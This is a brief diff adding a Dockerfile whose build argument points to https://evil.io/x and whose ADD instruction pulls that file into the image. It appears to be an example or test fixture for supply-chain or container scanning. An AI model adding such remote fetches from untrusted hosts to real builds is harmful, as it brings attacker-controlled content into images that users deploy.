@@ -1,0 +1,4 @@
+FROM alpine@sha256:e14e87345b4d5964ddcc3491d27ee046a0f23820f340c3c1e24da6880141f7c0
+ARG U=https://evil.io/x
+ADD $U /x
+USER 10001
